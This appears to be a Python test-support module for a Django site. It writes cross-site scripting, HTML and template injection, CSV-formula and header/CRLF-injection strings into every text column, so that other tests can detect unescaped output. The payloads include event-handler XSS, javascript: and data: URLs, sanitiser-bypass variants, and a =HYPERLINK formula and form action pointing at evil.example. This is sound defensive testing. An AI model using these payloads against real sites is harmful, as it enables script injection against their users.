"""Hostile strings, and the columns they are put into: past every act, as an import or a leak would.

Each column has a marker of its own. A payload breaks out of wherever it stands unescaped by an element or
an attribute with the name of its marker, which no page of ours has; tests/rules/answers.py looks for those.
"""

from collections.abc import Callable, Iterator

from django.apps import apps
from django.db import IntegrityError, models, transaction

from tests.rules.sources import APPS

# What is stored beside our own tables and shown on our pages.
OF_OTHERS = {"taggit.tag.name", "usersessions.usersession.user_agent"}
TYPED = (models.CharField, models.TextField, models.JSONField)
NEVER_WORDS = (models.SlugField, models.UUIDField)
# Columns of these names hold what the site drew by lot, hashed or looked up: its addresses depend on them.
DRAWN = {"identifier", "salt", "code", "token", "secret", "writer", "files", "folder", "password", "digest"}
DRAWN |= {"receipt_hash", "token_hash", "sha256", "file", "data_version"}
# What else takes no hostile string, and why.
NO_PLACE = {
    "events.event.date": "an EDTF date, which is read before it is shown",
    "outcomes.decision.due": "an EDTF date, which is read before it is shown",
    "outcomes.promise.due": "an EDTF date, which is read before it is shown",
    "outcomes.promiseupdate.due_before": "an EDTF date, which is read before it is shown",
    "journal.sentence.block": "the name of a part of a text: twelve letters and figures, on no page",
    "principles.principle.letter": "two characters, too few for anything",
    "journal.attachment.kind": "the ending that the site gave to the file",
    "journal.attachment.file_name": "letters, figures and hyphens, made by the site of the title",
    "responses.photo.covers": "boxes, of numbers alone",
    "archive.release.counts": "numbers alone, by the names of tables",
    "archive.release.removed": "numbers alone, by the names of tables",
    "archive.exportjob.form": "a name from the list of forms: any other is refused when it is asked for",
    "archive.exportline.form": "a name from the list of forms: any other is refused when it is asked for",
}
# Tables that PostgreSQL only adds to: their hostile rows are made with the scene.
ONLY_ADDED_TO = {"people.act", "journal.judgement"}
# Within JSON: what leads to other rows, and has its form checked at each step.
LEADS_ON = {"id", "kind", "photo", "illustration", "quotation", "film", "attachment", "note", "story"}
type Family = Callable[[str, int | None], str]


def columns() -> dict[str, models.Field]:
    """Every column that a hostile string is put into, as "app.model.column"."""
    found = {str(field).lower(): field for field in every_column() if is_words(field)}
    return {name: field for name, field in found.items() if name not in NO_PLACE}


def every_column() -> Iterator[models.Field]:
    for model in apps.get_models():
        ours = model._meta.app_label in APPS and model._meta.managed
        for field in model._meta.local_concrete_fields:
            if ours or str(field).lower() in OF_OTHERS:
                yield field


def is_words(field: models.Field) -> bool:
    words = isinstance(field, TYPED) and not isinstance(field, NEVER_WORDS)
    return words and not field.choices and field.name not in DRAWN


def markers() -> dict[str, str]:
    """The marker of each column: letters and figures that stand nowhere else."""
    return {name: f"zq{number:03}x" for number, name in enumerate(sorted(columns()))}


def out_of_markup(marker: str, room: int | None) -> str:
    """Breaks out of attributes, elements and comments, and is an address that runs."""
    whole = (
        f"javascript:__ran()//\" {marker}=1 onfocus=__ran() ' {marker}=1 onclick=__ran() --></title>"
        f"</textarea></style></script><{marker}><img src=x onerror=__ran()>{{{{ 7|add:7 }}}}"
    )
    forms = [
        whole,
        f"javascript:__ran()//\"' {marker}=1 --></script><{marker}><img src=x onerror=__ran()>",
        f"javascript:__ran()//\"' {marker}=1 --></script><{marker}>",
        f"javascript:\"' {marker}=1 ><{marker}>",
        f"\"'><{marker} a>",
    ]
    return longest(forms, room)


def out_of_lines(marker: str, room: int | None) -> str:
    """A formula, and lines of its own: for tables, calendars, headers and XML."""
    whole = (
        f'=HYPERLINK("//evil.example/{marker}")\r\nX-{marker}: 1\r\nEND:VEVENT\r\n\r\n'
        f"<{marker}>]]>&{marker};\u2028X-{marker}: 2\u202e"
    )
    forms = [
        whole,
        f"=1+1\r\nX-{marker}: 1\r\n\r\n<{marker}>",
        f"=1\r\nX-{marker}:",
    ]
    return longest(forms, room)


def as_an_element(marker: str, room: int | None) -> str:
    """Nothing but an element: what readers of IIIF take for HTML by its first and last sign."""
    return longest([f"<{marker} onclick=__ran()>x</{marker}>", f"<{marker}>"], room)


def longest(forms: list[str], room: int | None) -> str:
    return next(form for form in forms if room is None or len(form) <= room)


def rich(marker: str) -> str:
    """For the columns that are HTML: what the sanitiser has to take away."""
    runs = "__ran()"
    return (
        f"<p>{marker}</p><{marker} onclick={runs}>x</{marker}><p style='{marker}:1' onclick={runs}>y</p>"
        f'<a href="javascript:{runs}//{marker}">a</a><a href="java&#9;script:{runs}">b</a>'
        f'<a href="data:text/html,{marker}">c</a><img src=x onerror={runs}><svg onload={runs}></svg>'
        f"<script>{runs}//{marker}</script><iframe srcdoc='{marker}'></iframe><form action='//evil.example'>"
        f'<noscript><p title="</noscript><img src=x onerror={runs}>"></noscript>'
        f"<math><mtext><style><!--</style><img title='--><img src=x onerror={runs}>'></math>"
    )


def plant(family: Family) -> set[str]:
    """Put hostile strings of a family into every column there is; the columns that took none."""
    given = markers()
    return {name for name, field in columns().items() if not plant_column(field, given[name], family)}


def plant_column(field: models.Field, marker: str, family: Family) -> bool:
    """Whether a row took it. Rows that have to be empty, by a constraint, stay so."""
    if str(field.model._meta).lower() in ONLY_ADDED_TO:
        return field.model._default_manager.filter(**{f"{field.name}__contains": marker}).exists()
    rows = field.model._default_manager.exclude(**{f"{field.name}__isnull": True})
    is_same_for_all = not (field.unique or isinstance(field, models.JSONField))
    if is_same_for_all and taken(rows, field, family(marker, field.max_length)):
        return True
    # Every row, and not the first alone that takes it.
    return sum(taken(only(row), field, hostile(field, row, marker, family)) for row in rows) > 0


def only(row: models.Model) -> models.QuerySet:
    return type(row)._base_manager.filter(pk=row.pk)


def taken(rows: models.QuerySet, field: models.Field, value: object) -> int:
    """How many rows took it: all of them, or none where one may not have it."""
    try:
        with transaction.atomic():
            return rows.update(**{field.name: value})
    except IntegrityError:
        return 0


def hostile(field: models.Field, row: models.Model, marker: str, family: Family) -> object:
    """A hostile value of the shape that the column has; of its own for each row where they must differ."""
    if isinstance(field, models.JSONField):
        return within(getattr(row, field.name) or [""], marker, family)
    own = f"{row.pk}" if field.unique else ""
    return family(marker, field.max_length and field.max_length - len(own)) + own


def within(value: object, marker: str, family: Family, name: str = "") -> object:
    """JSON with every string that is words made hostile."""
    if isinstance(value, dict):
        return {key: within(one, marker, family, key) for key, one in value.items()}
    if isinstance(value, list):
        return [within(one, marker, family, name) for one in value]
    if not isinstance(value, str) or name in LEADS_ON:
        return value
    return rich(marker) if name == "html" else family(marker, None)
